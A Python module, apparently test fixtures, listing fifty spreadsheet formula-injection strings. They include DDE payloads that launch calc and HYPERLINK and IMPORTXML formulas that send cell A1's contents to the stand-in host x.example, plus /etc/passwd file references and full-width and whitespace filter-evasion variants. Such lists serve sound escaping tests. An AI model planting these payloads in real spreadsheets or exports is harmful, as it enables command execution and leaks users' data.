"""Fifty texts that a spreadsheet could take for a formula, a link or a command."""

PAYLOADS = (
    *("=1+1", "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "=cmd|'/c calc'!A0", "=A1", "=-1"),
    *("+1+1", "+HYPERLINK(\"http://x.example\")", "+cmd|'/c calc'!A0", "+A1&A2", "+SUM(A1:A9)"),
    *("-1+1", "-2+3+cmd|'/c calc'!A0", "-HYPERLINK(1)", "-A1", "-@SUM(1)"),
    *("@SUM(1+1)", "@HYPERLINK(1)", "@A1", "@cmd|'/c calc'!A0", "@"),
    *("\t=1+1", "\t@SUM(1)", "\r=1+1", "\n=1+1", "\n+1"),
    *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "＝HYPERLINK(1)"),
    *("external:/etc/passwd", "external:c:\\x.xlsx#Sheet1!A1", "internal:Sheet2!A1",
      "http://x.example", "https://x.example/?a=1", "ftp://x.example", "mailto:a@x.example",
      "file:///etc/passwd", "\\\\x.example\\share", "tel:+8613800138000"),
    *("{=1+1}", "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")",
      "=DDE(\"cmd\";\"/c calc\";\"x\")", "=IMAGE(\"http://x.example\")", "=_xlfn.CONCAT(A1)",
      "='file:///etc/passwd'#$x.A1", "=TRUE", "=#REF!", "_x003D_1+1"),
)  # fmt: skip
PHONE = "+86 138 0013 8000"
